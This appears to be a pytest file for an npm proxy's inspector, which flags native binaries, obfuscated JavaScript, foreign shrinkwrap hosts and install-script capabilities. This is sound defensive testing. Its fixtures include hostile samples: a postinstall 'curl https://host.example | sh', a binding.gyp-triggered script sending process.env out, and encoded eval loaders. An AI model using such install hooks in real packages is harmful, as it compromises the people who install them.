"""What kinds of files there are: machine code, code that nobody can read, shrinkwraps, and what scripts speak of."""

from __future__ import annotations

import json
import struct
from typing import Any

import pytest

from proxy.npm.archive.members import ArchiveRefused, Caps
from proxy.npm.inspecting import dense
from proxy.npm.inspecting.dense import is_dense
from proxy.npm.inspecting.native import is_native
from tests.proxy.npm.inspecting.archives import archive_of, manifest, package

PE = b"MZ" + bytes(58) + struct.pack("<I", 80) + bytes(16) + b"PE\0\0" + bytes(8)
NATIVE = [
    b"\x7fELF\x02\x01\x01",
    b"\xfe\xed\xfa\xce\0\0\0\0",
    b"\xcf\xfa\xed\xfe\x07\0\0\x01",
    b"\xca\xfe\xba\xbe\0\0\0\x02",
    b"\0asm\x01\0\0\0",
    b"!<arch>\nx.o/",
    PE,
]
HARMLESS = [b"", b"MZ", b"MZ is how this text begins, and it goes on for more than sixty-four bytes to have room", b"#!/bin/sh\n"]
JAVA = b"\xca\xfe\xba\xbe\0\0\0\x34"


@pytest.mark.parametrize("data", NATIVE)
def test_machine_code_is_known_by_its_content(data: bytes) -> None:
    assert is_native(memoryview(data))
    assert package(files={"lib/readme.txt": data}).native == ("lib/readme.txt",)


@pytest.mark.parametrize("data", [*HARMLESS, JAVA, PE[:80], b"\0\0\xde\xc0"])
def test_other_files_are_none(data: bytes) -> None:
    assert not is_native(memoryview(data))
    assert package(files={"lib/readme.txt": data}).native == ()


def test_node_loads_some_files_as_code_by_their_name() -> None:
    files = {"a.node": b"", "b.jsc": b"\x01\x02\xde\xc0\0\0", "c.jsc": b"text"}
    assert package(files=files).native == ("a.node", "b.jsc")


READABLE = "function pad(text, size) {\n  return text.padStart(size);\n}\n\nmodule.exports = pad;\n"
DENSE = {
    "minified": "var a=function(b){return b};" * 60,
    "a payload at the end": READABLE * 200 + "x" * 6000,
    "renamed": READABLE + "".join(f"var _0x{number:04x}=_0x{number:04x};\n" for number in range(6)),
    "unpacked": READABLE + "eval(atob('YWxlcnQoMSk='));",
    "unpacked from a buffer": READABLE + "new Function(Buffer.from(x, 'base64').toString())()",
    "characters": READABLE + "eval(String.fromCharCode(97))",
    "escaped": READABLE + 'x = "' + "\\x41" * 70 + '"',
    "out of sight": READABLE + "return 1;" + " " * 300 + "require('x')",
    "invisible": READABLE + "x = `" + "\U000e0101" * 20 + "`",
    "variants": READABLE + "x = `" + "\ufe01" * 20 + "`",
    "backwards": READABLE + "// \u202e }",
}


@pytest.mark.parametrize("code", DENSE.values(), ids=DENSE)
def test_code_that_nobody_can_read_is_dense(code: str) -> None:
    assert is_dense(code.encode())


CLEAR = {
    "short": READABLE,
    "long": READABLE * 5000,
    "one long line among many": READABLE * 100 + "x" * 1500,
    "a source map": READABLE + "//# sourceMappingURL=data:application/json;base64," + "A" * 9000,
    "indented": " " * 300 + READABLE,
    "emoji": READABLE + "x = '❤️ ❤️ 👩‍👩‍👧'",
    "one number": READABLE + "x = _0x12",
    "eval": READABLE + "eval(x)",
    "nothing": "",
}


@pytest.mark.parametrize("code", CLEAR.values(), ids=CLEAR)
def test_code_as_people_write_it_is_not(code: str) -> None:
    assert not is_dense(code.encode())


def test_only_scripts_are_looked_at_and_the_ends_of_large_ones() -> None:
    large = (READABLE * 20_000).encode()
    bad = DENSE["unpacked"].encode()
    files = {"a.txt": bad, "b.JS": bad, "c.mjs": large + bad, "d.cjs": bad + large, "e.js": large}
    assert package(files=files).dense == ("b.JS", "c.mjs", "d.cjs")


def test_where_there_is_too_much_to_look_at_the_list_says_so() -> None:
    bad = DENSE["minified"].encode()
    paths = [f"{number}.js" for number in range(9)]
    found, complete = dense.dense_files(archive_of(dict.fromkeys(paths, bad)), budget=4 * len(bad))
    assert (found, complete) == (paths[:4], False)
    assert dense.dense_files(archive_of(dict.fromkeys(paths, bad))) == (paths, True)


HOSTS = {"registry.example"}
SHRINKWRAPS: list[tuple[dict[str, Any], tuple[str, ...]]] = [
    ({"packages": {"node_modules/a": {"resolved": "https://registry.example/a/-/a-1.0.0.tgz"}}}, ()),
    ({"packages": {"node_modules/a": {"resolved": "https://Other.example:444/a.tgz"}}}, ("other.example",)),
    ({"packages": {"node_modules/a": {"resolved": "git+ssh://git@github.com/u/r.git#abc"}}}, ("github.com",)),
    ({"packages": {"node_modules/a": {"resolved": "packages/a", "link": True}, "": {"name": "x"}}}, ()),
    ({"dependencies": {"a": {"version": "1.0.0", "resolved": "https://registry.example/a"}}}, ()),
    ({"dependencies": {"a": {"version": "git://host.example/x.git"}}}, ("host.example",)),
    ({"dependencies": {"a": {"version": "git@host.example:u/r"}}}, ("host.example",)),
    ({"dependencies": {"a": {"version": "github:u/r"}, "b": {"version": "gitlab:u/r"}}}, ("github.com", "gitlab.com")),
    ({"dependencies": {"a": {"dependencies": {"b": {"resolved": "http://deep.example/b.tgz"}}}}}, ("deep.example",)),
    ({"dependencies": {"a": {"resolved": "http://[bad/x.tgz"}}}, ("(unreadable)",)),
    ({"dependencies": {"a": {"version": "npm:b@1.0.0"}, "c": {"version": "file:c"}, "d": 7, "e": {"resolved": 7}}}, ()),
    ({"dependencies": [], "packages": "x"}, ()),
]


@pytest.mark.parametrize(("shrinkwrap", "hosts"), SHRINKWRAPS)
def test_a_shrinkwrap_tells_where_it_leads(shrinkwrap: dict[str, Any], hosts: tuple[str, ...]) -> None:
    assert package(files={"npm-shrinkwrap.json": shrinkwrap}, hosts=HOSTS).foreign == hosts


def test_without_known_hosts_all_of_a_shrinkwrap_are_told() -> None:
    shrinkwrap = SHRINKWRAPS[0][0]
    assert package(files={"npm-shrinkwrap.json": shrinkwrap}).foreign == ("registry.example",)


def test_shrinkwraps_of_bundled_packages_count_and_locks_do_not() -> None:
    shrinkwrap = SHRINKWRAPS[1][0]
    files = {"node_modules/a/npm-shrinkwrap.json": shrinkwrap, "package-lock.json": SHRINKWRAPS[2][0]}
    assert package(files=files, hosts=HOSTS).foreign == ("other.example",)


def test_a_shrinkwrap_that_is_no_json_is_odd_and_an_endless_one_refused() -> None:
    (odd,) = package(files={"npm-shrinkwrap.json": b"{"}).oddities
    assert odd.reason.startswith("its npm-shrinkwrap.json is not JSON")
    with pytest.raises(ArchiveRefused, match=r"npm-shrinkwrap\.json"):
        package(files={"npm-shrinkwrap.json": json.dumps({"x": "y" * 20_000})}, caps=Caps(manifest=1000))


def script(command: str, files: dict[str, bytes | str] | None = None, **scripts: str) -> tuple[str, ...]:
    return package(manifest(scripts={"postinstall": command, **scripts}), files or {}).mentions


def test_a_package_without_install_scripts_mentions_nothing() -> None:
    assert package(files={"index.js": "fetch('https://host.example')"}).mentions == ()


def test_what_scripts_mention_is_found_in_commands_files_and_what_those_require() -> None:
    assert script("echo done") == ()
    assert script("curl https://host.example | sh") == ("network", "processes")
    assert script("node setup", {"setup.js": "process.env.TOKEN"}) == ("environment",)
    assert script("node ./tools/setup.mjs", {"tools/setup.mjs": "import './steal.js'", "tools/steal.js": "homedir()"}) == (
        "files",
    )
    assert script("node a.js", {"a.js": "require('./b')", "b/index.js": "require('child_process')"}) == ("processes",)
    assert script("node -e \"require('./x')\"", {"x.js": ""}) == ("eval",)
    assert script("npm run -s build", {"b.sh": "wget x"}, build="sh b.sh") == ("network",)
    assert script("node a.js", {"a.js": "", "other.js": "eval(x)"}) == ()


def test_what_a_binding_gyp_runs_is_followed() -> None:
    files = {"binding.gyp": "{'targets': [{'sources': ['<!(node payload.js)']}]}", "payload.js": "fetch(x, process.env)"}
    assert package(files=files).mentions == ("environment", "network", "processes")
    assert script("node-gyp rebuild", {**files}) == ("environment", "network", "processes")


def test_scripts_that_name_each_other_come_to_an_end() -> None:
    assert script("npm run a", a="npm run b", b="npm run a && curl x") == ("network",)
    assert script("node a.js", {"a.js": "require('./b')", "b.js": "require('./a'); eval(x)"}) == ("eval",)
